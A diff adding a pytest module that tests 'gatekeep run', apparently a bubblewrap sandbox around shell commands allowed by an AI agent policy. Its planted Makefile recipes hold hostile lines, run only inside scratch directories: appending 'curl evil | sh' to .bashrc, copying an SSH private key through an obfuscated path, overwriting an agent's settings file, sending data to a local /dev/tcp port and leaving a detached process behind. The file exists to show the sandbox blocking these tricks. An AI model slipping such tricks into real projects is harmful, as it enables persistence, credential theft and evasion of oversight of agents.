@@ -1,0 +1,489 @@
+"""``gatekeep run`` inside the boundary: what reading misses, the box stops.
+
+Each trick is a command the policy allows (``make`` builds the project) whose harm sits
+where no parser looks: in the Makefile. Each is run twice, by plain bash (the harm
+happens) and by ``gatekeep run`` (it does not), in a scratch home under ``tmp_path``.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+Sandbox = Any  # the fixture's class lives in conftest.py, which test modules cannot import
+pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
+KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n"
+
+
+def plant(sandbox: Sandbox, *recipe: str) -> None:
+    """A Makefile whose one target runs ``recipe`` in bash; a home with things to steal."""
+    lines = ["SHELL := /bin/bash", "all:", *(f"\t{line}" for line in recipe)]
+    (sandbox.work / "Makefile").write_text("\n".join(lines) + "\n")
+    (sandbox.home / ".ssh").mkdir(exist_ok=True)
+    (sandbox.home / ".ssh" / "id_rsa").write_text(KEY)
+    (sandbox.home / ".bashrc").write_text("# mine\n")
+    (sandbox.home / ".claude").mkdir(exist_ok=True)
+
+
+def plain(sandbox: Sandbox, command: str) -> subprocess.CompletedProcess[str]:
+    """The same command without gatekeep."""
+    return subprocess.run(["bash", "-c", command], cwd=sandbox.work, env=sandbox.env,
+                          capture_output=True, text=True, timeout=30, check=False)
+
+
+def allowed(sandbox: Sandbox, command: str) -> bool:
+    return sandbox.gatekeep("check", "-c", command).returncode == 0
+
+
+def test_a_write_through_a_symlink_into_a_protected_file(sandbox: Sandbox) -> None:
+    plant(sandbox, "ln -sf $(HOME)/.bashrc link", "echo 'curl evil | sh' >> link")
+    assert allowed(sandbox, "make")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+    assert boxed.returncode == 2, boxed.stderr
+    assert "link: Read-only file system" in boxed.stderr
+    assert boxed.stderr.endswith(sandbox.BOX_NOTE)
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
+
+    assert plain(sandbox, "make").returncode == 0
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\ncurl evil | sh\n"
+
+
+def test_a_path_made_at_run_time_into_an_agent_config(sandbox: Sandbox) -> None:
+    plant(sandbox, 'printf "{}" > "$$(echo ~)/.claude/settings.json"')
+    settings = sandbox.home / ".claude" / "settings.json"
+    assert allowed(sandbox, "make")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+    assert boxed.returncode == 2, boxed.stderr
+    assert not settings.exists()
+
+    assert plain(sandbox, "make").returncode == 0
+    assert settings.read_text() == "{}"
+
+
+def test_a_read_of_a_planted_key_by_a_path_the_parser_cannot_see(sandbox: Sandbox) -> None:
+    plant(sandbox, "cp $$(printf '%s/.%s/id_%s' ~ ssh rsa) stolen")
+    assert allowed(sandbox, "make")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+    assert boxed.returncode == 2, boxed.stderr
+    assert "Permission denied" in boxed.stderr
+    assert not (sandbox.work / "stolen").exists()
+
+    assert plain(sandbox, "make").returncode == 0
+    assert (sandbox.work / "stolen").read_text() == KEY
+
+
+@pytest.mark.parametrize("client", ["bash", "python"])
+def test_a_connection_to_a_local_port(sandbox: Sandbox, client: str) -> None:
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(4)
+        listener.setblocking(False)
+        port = listener.getsockname()[1]
+        connect = f"echo leak > /dev/tcp/127.0.0.1/{port}" if client == "bash" else (
+            f"{sys.executable} -c \"import socket; "
+            f"socket.create_connection(('127.0.0.1', {port}))\"")
+        plant(sandbox, connect)
+        assert allowed(sandbox, "make")
+
+        boxed = sandbox.gatekeep("run", "-c", "make")
+        assert boxed.returncode == 2, boxed.stderr
+        with pytest.raises(BlockingIOError):
+            listener.accept()  # nothing reached the port
+
+        assert plain(sandbox, "make").returncode == 0
+        listener.setblocking(True)
+        listener.settimeout(30)
+        connection, _ = listener.accept()
+        connection.close()
+
+
+def _running(argument: str) -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        try:
+            if entry.name.isdigit() and argument.encode() in (entry / "cmdline").read_bytes():
+                found.append(int(entry.name))
+        except OSError:
+            continue
+    return found
+
+
+def test_a_process_left_behind_to_outlive_the_command(sandbox: Sandbox) -> None:
+    plant(sandbox, "setsid sleep 60.6161 > /dev/null 2>&1 &")
+    assert allowed(sandbox, "make")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+    assert boxed.returncode == 0, boxed.stderr
+    sandbox.wait_for(lambda: not _running("sleep\x0060.6161"))
+
+    try:
+        assert plain(sandbox, "make").returncode == 0
+        assert _running("sleep\x0060.6161")  # still there after bash returned
+    finally:
+        for pid in _running("sleep\x0060.6161"):
+            os.kill(pid, signal.SIGKILL)
+
+
+def test_a_command_past_its_time_limit_is_stopped_with_everything_it_started(
+        sandbox: Sandbox) -> None:
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
+                                  "limits: {timeout: 1}\n")
+    plant(sandbox, "sleep 60.6262 & sleep 60.6363")
+    assert allowed(sandbox, "make")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+
+    assert boxed.returncode == 124, boxed.stderr
+    assert boxed.stderr == ("gatekeep: stopped: the command ran past its time limit of 1 "
+                            "seconds (limits: timeout in the policy)\n")
+    sandbox.wait_for(lambda: not _running("60.6262") and not _running("60.6363"))
+
+
+def test_a_memory_hog_meets_the_memory_limit(sandbox: Sandbox) -> None:
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\n"
+                                  "limits: {memory: 256M}\n")
+    plant(sandbox, f"{sys.executable} -c 'bytearray(1 << 30)'")
+
+    boxed = sandbox.gatekeep("run", "-c", "make")
+
+    assert boxed.returncode == 2, boxed.stderr
+    assert "MemoryError" in boxed.stderr
+    assert plain(sandbox, "make").returncode == 0
+
+
+# -- what passes through the box ----------------------------------------------------------
+
+def test_stdin_stdout_stderr_exit_code_env_and_cwd_pass_through(sandbox: Sandbox) -> None:
+    sub = sandbox.work / "sub"
+    sub.mkdir()
+    (sub / "Makefile").write_text("all:\n\t@echo $$GK_VALUE >&2\n")
+    result = sandbox.gatekeep("run", "-c", "cat; pwd >&2; make -s; exit 3",
+                              input="from stdin\n", env={"GK_VALUE": "kept"}, cwd=sub)
+    assert (result.returncode, result.stdout) == (3, "from stdin\n"), result.stderr
+    assert result.stderr == f"{sub}\nkept\n" + sandbox.BOX_NOTE
+
+
+def test_the_stored_decision_boxes_too(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch,
+                                       capfd: pytest.CaptureFixture[str]) -> None:
+    """The fast path (a reused allow decision, no policy loaded) runs in the same box."""
+    plant(sandbox, "echo 'curl evil | sh' >> $$(echo ~)/.bashrc")
+    assert sandbox.gatekeep("run", "-c", "make").returncode == 2  # stores the decision
+    from gatekeep import fastpath
+
+    for name, value in sandbox.env.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.chdir(sandbox.work)
+    status = fastpath.run("make", None, None)
+    assert status == 2  # the fast path ran it (None would mean it did not)
+    assert "Read-only file system" in capfd.readouterr().err
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
+    assert [entry["boundary"]["mode"] for entry in sandbox.audit()] == ["preferred"] * 2
+
+
+# -- when the box cannot be built ----------------------------------------------------------
+
+def _bwrap_policy(path: Path | str, mode: str = "preferred") -> str:
+    return (f"gatekeep: 1\nextends: [builtin:default]\nsandbox: {mode}\n"
+            f"sandbox_paths: {{bwrap: [{path}]}}\n")
+
+
+def test_no_bwrap_under_preferred_runs_unboxed_with_a_warning(sandbox: Sandbox) -> None:
+    missing = sandbox.root / "no" / "bwrap"
+    sandbox.write_operator_policy(_bwrap_policy(missing))
+
+    result = sandbox.gatekeep("run", "-c", "touch marker")
+
+    assert result.returncode == 0, result.stderr
+    assert result.stderr == (
+        "gatekeep: warning: running without a boundary: no bubblewrap owned by root and "
+        f"writable only by root in {missing} (install the bubblewrap package)\n")
+    assert sandbox.marker.exists()
+
+
+def test_no_bwrap_under_required_is_asked_and_refused_without_a_terminal(
+        sandbox: Sandbox) -> None:
+    missing = sandbox.root / "no" / "bwrap"
+    sandbox.write_operator_policy(_bwrap_policy(missing, "required"))
+
+    result = sandbox.gatekeep("run", "-c", "touch marker")
+
+    assert result.returncode == 126, result.stderr
+    assert result.stderr == (
+        "gatekeep: needs approval: sandbox: the policy requires a boundary (sandbox: required) "
+        "and this machine cannot build one: no bubblewrap owned by root and writable only by "
+        f"root in {missing} (install the bubblewrap package)\n"
+        "gatekeep:   in: touch marker\n"
+        "gatekeep:   instead: approve this run without the box, or fix the set-up (gatekeep "
+        "check shows the boundary)\n" + sandbox.NEEDS_APPROVAL)
+    assert not sandbox.marker.exists()
+
+
+def _fake_bwrap(sandbox: Sandbox, body: str, mode: int = 0o755) -> Path:
+    directory = sandbox.root / "fakebin"
+    directory.mkdir(exist_ok=True)
+    directory.chmod(mode)
+    fake = directory / "bwrap"
+    fake.write_text(f"#!/bin/sh\n{body}\n")
+    fake.chmod(0o755)
+    return fake
+
+
+def test_a_bwrap_that_fails_to_start_turns_the_allow_into_an_ask(sandbox: Sandbox) -> None:
+    fake = _fake_bwrap(sandbox, "echo 'bwrap: cannot set up' >&2; exit 1")
+    sandbox.write_operator_policy(_bwrap_policy(fake))
+
+    result = sandbox.gatekeep("run", "-c", "touch marker")
+
+    assert result.returncode == 126, result.stderr
+    assert result.stderr == (
+        "bwrap: cannot set up\n"
+        "gatekeep: needs approval: sandbox: gatekeep's boundary failed to start (see bwrap's "
+        "message above)\n"
+        "gatekeep:   in: touch marker\n"
+        "gatekeep:   instead: approve this run without the box, or fix the set-up (gatekeep "
+        "check shows the boundary)\n" + sandbox.NEEDS_APPROVAL)
+    assert not sandbox.marker.exists()
+    assert sandbox.audit()[-1]["operator"]["answer"] == "no-tty"
+
+
+def test_a_bwrap_others_can_change_is_no_box(sandbox: Sandbox) -> None:
+    fake = _fake_bwrap(sandbox, "touch $HOME/fake-ran; exit 0", mode=0o777)
+    sandbox.write_operator_policy(_bwrap_policy(fake))
+
+    result = sandbox.gatekeep("run", "-c", "true")
+
+    assert result.returncode == 0, result.stderr
+    assert "running without a boundary" in result.stderr
+    assert not (sandbox.home / "fake-ran").exists()
+
+
+def test_a_bwrap_on_path_is_never_used(sandbox: Sandbox) -> None:
+    fake = _fake_bwrap(sandbox, "touch $HOME/fake-ran; exit 0")
+    path = f"{fake.parent}:{os.environ.get('PATH', '/usr/bin:/bin')}"
+
+    result = sandbox.gatekeep("run", "-c", "touch marker", env={"PATH": path})
+
+    assert result.returncode == 0, result.stderr
+    assert sandbox.marker.exists()
+    assert not (sandbox.home / "fake-ran").exists()
+
+
+def test_sandbox_off_runs_unboxed_and_says_nothing(sandbox: Sandbox) -> None:
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nsandbox: off\n")
+    plant(sandbox, "echo more >> $(HOME)/.bashrc")
+
+    result = sandbox.gatekeep("run", "-c", "make")
+
+    assert (result.returncode, result.stderr) == (0, "")
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\nmore\n"
+
+
+def test_a_project_policy_cannot_turn_the_box_off(sandbox: Sandbox) -> None:
+    (sandbox.work / ".gatekeep.yaml").write_text(
+        "gatekeep: 1\nsandbox: off\nrules:\n  - id: build\n    allow: [make]\n")
+    plant(sandbox, "echo more >> $(HOME)/.bashrc")
+
+    result = sandbox.gatekeep("run", "-c", "make")
+
+    assert result.returncode == 2, result.stderr
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
+
+
+# -- check shows it ------------------------------------------------------------------------
+
+def test_check_shows_the_boundary(sandbox: Sandbox) -> None:
+    plant(sandbox)
+    (sandbox.work / ".env").write_text("TOKEN=1\n")
+
+    text = sandbox.gatekeep("check", "-c", "make", env={"NO_COLOR": "1"})
+    document = sandbox.gatekeep("check", "--json", "-c", "make")
+
+    assert text.returncode == 0, text.stderr
+    assert "boundary: boxed (sandbox: preferred), network off\n" in text.stdout
+    assert "  limits: timeout 3600 s, cpu 3600 s, memory 16G, output 8G\n" in text.stdout
+    import json
+
+    box = json.loads(document.stdout)["boundary"]
+    assert box["status"] == "boxed" and box["network"] is False
+    assert str(sandbox.work) in box["writable"]
+    assert {str(sandbox.work / ".env"), str(sandbox.home / ".ssh/id_rsa")} <= set(box["hidden"])
+    assert str(sandbox.home / ".bashrc") in box["read_only"]  # home is under /tmp here
+
+
+def test_check_of_an_asked_network_command_shows_the_lifted_boundary(sandbox: Sandbox) -> None:
+    import json
+
+    outside = sandbox.root / "downloads"
+    outside.mkdir()
+    document = sandbox.gatekeep("check", "--json", "-c",
+                                f"curl -o {outside}/x https://example.org/x")
+    box = json.loads(document.stdout)["boundary"]
+    assert box["network"] is True
+    assert str(outside) in box["writable"]
+
+
+# -- everyday work still works boxed ---------------------------------------------------------
+
+def test_git_commit_in_the_tree(sandbox: Sandbox) -> None:
+    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
+    (sandbox.home / ".gitconfig").write_text("[user]\n\tname = t\n\temail = t@example.org\n")
+    (sandbox.work / "a.txt").write_text("a\n")
+
+    result = sandbox.gatekeep("run", "-c", "git add a.txt && git commit -qm first && "
+                              "git log --format=%s")
+
+    assert (result.returncode, result.stdout) == (0, "first\n"), result.stderr
+
+
+def test_make_and_pytest_in_the_tree(sandbox: Sandbox) -> None:
+    (sandbox.work / "Makefile").write_text("out.txt:\n\techo built > out.txt\n")
+    (sandbox.work / "test_one.py").write_text("def test_one():\n    assert True\n")
+    env = {"PATH": f"{Path(sys.executable).parent}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
+
+    made = sandbox.gatekeep("run", "-c", "make")
+    tested = sandbox.gatekeep("run", "-c", "pytest -q", env=env)
+
+    assert made.returncode == 0, made.stderr
+    assert (sandbox.work / "out.txt").read_text() == "built\n"
+    assert tested.returncode == 0, tested.stdout + tested.stderr
+    assert "1 passed" in tested.stdout
+
+
+def _wheel(directory: Path) -> Path:
+    wheel = directory / "demo-0.1-py3-none-any.whl"
+    files = {"demo.py": "X = 1\n",
+             "demo-0.1.dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 0.1\n",
+             "demo-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\n"
+                                         "Root-Is-Purelib: true\nTag: py3-none-any\n"}
+    files["demo-0.1.dist-info/RECORD"] = "".join(f"{name},,\n" for name in
+                                                 [*files, "demo-0.1.dist-info/RECORD"])
+    with zipfile.ZipFile(wheel, "w") as archive:
+        for name, text in files.items():
+            archive.writestr(name, text)
+    return wheel
+
+
+def test_pip_install_of_a_local_wheel_into_a_venv_in_the_tree(sandbox: Sandbox) -> None:
+    subprocess.run([sys.executable, "-m", "venv", str(sandbox.work / ".venv")], check=True,
+                   timeout=120)
+    wheel = _wheel(sandbox.work)
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
+                                  "  - id: venv-pip\n    allow: ['.venv/bin/pip install']\n")
+
+    result = sandbox.gatekeep("run", "--", ".venv/bin/pip", "install", "-q", "--no-index",
+                              wheel.name, timeout=120)
+
+    assert result.returncode == 0, result.stderr
+    imported = subprocess.run([str(sandbox.work / ".venv/bin/python"), "-c",
+                               "import demo; print(demo.X)"], capture_output=True, text=True,
+                              check=True)
+    assert imported.stdout == "1\n"
+
+
+TOOLS = [tool for tool in ("npm", "pip", "cargo") if shutil.which(tool)]
+# rustup's cargo finds its toolchains through these, not through the scratch home
+TOOL_HOMES = {name: str(Path.home() / place) for name, place in
+              (("RUSTUP_HOME", ".rustup"), ("CARGO_HOME", ".cargo"))
+              if (Path.home() / place).is_dir()}
+
+
+@pytest.mark.parametrize("tool", TOOLS)
+def test_toolchain_versions(sandbox: Sandbox, tool: str) -> None:
+    """The same answer boxed as unboxed (and under the default memory limit)."""
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
+                                  f"  - id: versions\n    allow: ['{tool} --version']\n")
+    unboxed = subprocess.run([tool, "--version"], capture_output=True, text=True, timeout=120,
+                             env={**sandbox.env, **TOOL_HOMES}, cwd=sandbox.work, check=False)
+    boxed = sandbox.gatekeep("run", "--", tool, "--version", env=TOOL_HOMES, timeout=120)
+    assert (boxed.returncode, boxed.stdout) == (unboxed.returncode, unboxed.stdout), boxed.stderr
+    assert boxed.returncode == 0
+
+
+# -- an approved command gets only what the operator lifted ------------------------------------
+
+def _approve(sandbox: Sandbox, command: str) -> tuple[str, int | None]:
+    import pexpect
+
+    terminal = sandbox.pty_spawn("run", "-c", command)
+    terminal.expect_exact("Run it? ")
+    terminal.sendline("y")
+    terminal.expect(pexpect.EOF)
+    output = terminal.before.decode()
+    terminal.close()
+    return output, terminal.exitstatus
+
+
+def test_an_approved_network_command_gets_the_network(sandbox: Sandbox) -> None:
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(4)
+        port = listener.getsockname()[1]
+        output, status = _approve(sandbox, f"echo hi > /dev/tcp/127.0.0.1/{port}")
+        assert status == 0, output
+        listener.settimeout(30)
+        connection, _ = listener.accept()
+        connection.close()
+
+
+def test_an_approved_command_keeps_the_box_it_did_not_ask_to_lift(sandbox: Sandbox) -> None:
+    sandbox.write_operator_policy("gatekeep: 1\nextends: [builtin:default]\nrules:\n"
+                                  "  - id: ask-make\n    ask: [make]\n")
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(4)
+        listener.setblocking(False)
+        port = listener.getsockname()[1]
+        plant(sandbox, f"echo leak > /dev/tcp/127.0.0.1/{port}",
+              "echo more >> $(HOME)/.bashrc")
+        output, status = _approve(sandbox, "make")
+        assert status == 2, output
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    assert (sandbox.home / ".bashrc").read_text() == "# mine\n"
+
+
+def test_a_box_that_fails_then_approved_runs_unboxed(sandbox: Sandbox) -> None:
+    fake = _fake_bwrap(sandbox, "exit 1")
+    sandbox.write_operator_policy(_bwrap_policy(fake))
+
+    output, status = _approve(sandbox, "touch marker")
+
+    assert status == 0, output
+    assert sandbox.marker.exists()
+
+
+def test_an_approved_command_whose_box_fails_is_not_run_unboxed(sandbox: Sandbox) -> None:
+    fake = _fake_bwrap(sandbox, "exit 1")
+    sandbox.write_operator_policy(_bwrap_policy(fake))
+    (sandbox.work / "build").mkdir()
+
+    output, status = _approve(sandbox, "rm -r build")
+
+    assert status == 126, output
+    assert "gatekeep: not run: gatekeep's boundary failed to start, and an approval covers a " \
+           "run inside it only" in output
+    assert (sandbox.work / "build").is_dir()
+
+
+def test_an_approval_stands_in_for_a_box_this_machine_cannot_build(sandbox: Sandbox) -> None:
+    sandbox.write_operator_policy(_bwrap_policy(sandbox.root / "no" / "bwrap", "required"))
+    (sandbox.work / "build").mkdir()
+
+    output, status = _approve(sandbox, "rm -r build")
+
+    assert status == 0, output
+    assert "gatekeep: warning: running without a boundary: the policy requires a boundary" \
+           in output
+    assert not (sandbox.work / "build").exists()
